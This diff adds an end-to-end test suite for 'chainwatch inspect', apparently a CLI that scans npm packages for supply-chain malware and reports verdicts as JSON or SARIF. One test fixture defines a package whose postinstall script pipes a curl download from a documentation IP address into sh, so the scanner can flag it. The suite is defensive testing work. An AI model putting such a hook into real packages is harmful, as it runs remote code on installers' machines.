@@ -1,0 +1,140 @@
+import { spawnSync } from 'node:child_process';
+import { cpSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join, resolve } from 'node:path';
+import { spawn } from 'node:child_process';
+import { afterAll, describe, expect, it } from 'vitest';
+import { packPackages, startRegistry } from '../../src/registry/test-support/registry-server.js';
+import { sarifErrors } from '../../src/report/test-support/sarif-schema.js';
+
+// `chainwatch inspect` as a user runs it: the built CLI over package directories on disk.
+const repo = resolve(__dirname, '../..');
+const bin = join(repo, 'dist/cli/main.js');
+const scratch = mkdtempSync(join(tmpdir(), 'chainwatch-inspect-e2e-'));
+const incidents = join(repo, 'src/analysis/fixtures/incidents');
+afterAll(() => rmSync(scratch, { recursive: true, force: true }));
+
+/** Async, so a registry server in this process can answer while the CLI runs. */
+function cliAsync(args: string[], env: Record<string, string>): Promise<{ code: number | null; stdout: string; stderr: string }> {
+  return new Promise((done) => {
+    const child = spawn(process.execPath, [bin, ...args], {
+      cwd: repo,
+      env: { PATH: process.env.PATH ?? '', HOME: scratch, XDG_CACHE_HOME: join(scratch, 'cache'), ...env },
+    });
+    let stdout = '';
+    let stderr = '';
+    child.stdout.on('data', (d: Buffer) => (stdout += d));
+    child.stderr.on('data', (d: Buffer) => (stderr += d));
+    child.on('close', (code) => done({ code, stdout, stderr }));
+  });
+}
+
+function cli(args: string[], opts: { cwd?: string } = {}) {
+  const r = spawnSync(process.execPath, [bin, ...args], {
+    cwd: opts.cwd ?? repo,
+    encoding: 'utf8',
+    maxBuffer: 64 << 20,
+    env: { PATH: process.env.PATH ?? '', HOME: scratch, XDG_CACHE_HOME: join(scratch, 'cache') },
+  });
+  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
+}
+
+interface Doc {
+  packages: { name: string; version: string | null; path: string; verdict: string; findings: { rule: string; severity: string; file: string; line: number | null; message: string }[] }[];
+  summary: { packages: number; malicious: number; cached: number };
+}
+
+describe('chainwatch inspect', () => {
+  it('judges an imitation of the chalk/debug payload malicious, with the stable JSON keys', () => {
+    const r = cli(['inspect', join(incidents, 'qix-chalk-debug-2025-09-08'), '--format', 'json', '--no-cache']);
+    expect(r.code, r.stderr).toBe(1);
+    const doc = JSON.parse(r.stdout) as Doc;
+    const [p] = doc.packages;
+    expect(p).toMatchObject({ verdict: 'malicious', path: expect.stringContaining('qix-chalk-debug-2025-09-08') });
+    expect(Object.keys(p!)).toEqual(expect.arrayContaining(['name', 'version', 'path', 'verdict', 'findings']));
+    expect(p!.findings.length).toBeGreaterThan(0);
+    for (const f of p!.findings) expect(Object.keys(f)).toEqual(expect.arrayContaining(['rule', 'severity', 'file', 'line', 'message']));
+  });
+
+  it('finds nothing malicious in a real package and exits 0', () => {
+    const r = cli(['inspect', 'node_modules/commander']);
+    expect(r.code, r.stdout + r.stderr).toBe(0);
+    expect(r.stdout).toMatch(/1 package · 0 malicious/);
+  });
+
+  it('reports a build folder that is not a package as one entry named after it', () => {
+    const dist = join(scratch, 'site', 'dist');
+    mkdirSync(dist, { recursive: true });
+    writeFileSync(join(dist, 'app.js'), 'export const answer = 42;\n');
+    const doc = JSON.parse(cli(['inspect', dist, '--format', 'json']).stdout) as Doc;
+    expect(doc.packages).toHaveLength(1);
+    expect(doc.packages[0]).toMatchObject({ name: 'dist', version: null, verdict: 'clean' });
+  });
+
+  it('analyzes a whole node_modules, and takes unchanged packages from the cache the second time', () => {
+    const nm = join(scratch, 'project', 'node_modules');
+    mkdirSync(nm, { recursive: true });
+    cpSync(join(repo, 'node_modules/commander'), join(nm, 'commander'), { recursive: true });
+    cpSync(join(incidents, 'qix-chalk-debug-2025-09-08'), join(nm, 'chalk'), { recursive: true });
+    const first = JSON.parse(cli(['inspect', nm, '--format', 'json']).stdout) as Doc;
+    expect(first.summary).toMatchObject({ packages: 2, malicious: 1, cached: 0 });
+    const second = JSON.parse(cli(['inspect', nm, '--format', 'json']).stdout) as Doc;
+    expect(second.summary).toMatchObject({ packages: 2, malicious: 1, cached: 2 });
+    expect(second.packages).toEqual(first.packages);
+    writeFileSync(join(nm, 'commander', 'extra.js'), 'module.exports = 1;\n');
+    const third = JSON.parse(cli(['inspect', nm, '--format', 'json']).stdout) as Doc;
+    expect(third.summary.cached).toBe(1);
+  });
+
+  it('fetches name@version from the configured registry, checks its integrity, and inspects it without installing', async () => {
+    const packed = packPackages([
+      { name: 'cw-inspect-fixture', version: '1.0.0', files: { 'index.js': 'module.exports = 1;\n' } },
+      {
+        name: 'cw-inspect-fixture',
+        version: '1.0.1',
+        files: { 'package.json': JSON.stringify({ name: 'cw-inspect-fixture', version: '1.0.1', scripts: { postinstall: 'curl -s http://203.0.113.9/x.sh | sh' } }) },
+      },
+    ]);
+    const registry = await startRegistry(packed);
+    try {
+      const npmrc = join(scratch, 'registry.npmrc');
+      writeFileSync(npmrc, `registry=${registry.url}\n`);
+      const env = { npm_config_userconfig: npmrc, npm_config_cache: join(scratch, 'npm-cache') };
+      const good = await cliAsync(['inspect', 'cw-inspect-fixture@1.0.0', '--format', 'json'], env);
+      expect(good.code, good.stderr).toBe(0);
+      expect((JSON.parse(good.stdout) as Doc).packages[0]).toMatchObject({ name: 'cw-inspect-fixture', version: '1.0.0', path: 'cw-inspect-fixture@1.0.0', verdict: 'clean' });
+      const bad = await cliAsync(['inspect', 'cw-inspect-fixture@1.0.1', '--format', 'json'], env);
+      expect(bad.code, bad.stderr).toBe(1);
+      expect((JSON.parse(bad.stdout) as Doc).packages[0]!.verdict).toBe('malicious');
+      const missing = await cliAsync(['inspect', 'cw-inspect-fixture@9.9.9'], env);
+      expect(missing.code).toBe(2);
+      expect(missing.stderr).toMatch(/cw-inspect-fixture@9\.9\.9 not found/);
+      // The same release as a .tgz file on disk.
+      const tgz = join(scratch, 'cw-inspect-fixture-1.0.1.tgz');
+      writeFileSync(tgz, packed.get('cw-inspect-fixture@1.0.1')!.tgz);
+      const local = cli(['inspect', tgz, '--format', 'json', '--no-cache']);
+      expect((JSON.parse(local.stdout) as Doc).packages[0]).toMatchObject({ version: '1.0.1', verdict: 'malicious' });
+    } finally {
+      await registry.close();
+    }
+  });
+
+  it('writes valid SARIF 2.1.0', () => {
+    const r = cli(['inspect', join(incidents, 'shai-hulud-2025-09-15'), '--format', 'sarif', '--no-cache']);
+    const doc = JSON.parse(r.stdout);
+    expect(sarifErrors(doc)).toBeNull();
+    expect(doc.runs[0].results.length).toBeGreaterThan(0);
+  });
+
+  it('sets the exit code by --fail-on and refuses unknown rules and missing targets', () => {
+    const clean = join(repo, 'node_modules/commander');
+    expect(cli(['inspect', clean, '--fail-on', 'none']).code).toBe(0);
+    expect(cli(['inspect', join(incidents, 'qix-chalk-debug-2025-09-08'), '--fail-on', 'none']).code).toBe(0);
+    const unknown = cli(['inspect', clean, '--rules', 'no-such-rule']);
+    expect(unknown.code).toBe(2);
+    expect(unknown.stderr).toMatch(/unknown rule no-such-rule/);
+    const missing = cli(['inspect', join(scratch, 'nope')]);
+    expect(missing.code).toBe(2);
+    expect(missing.stderr).toMatch(/nope: no such directory/);
+  });
+});
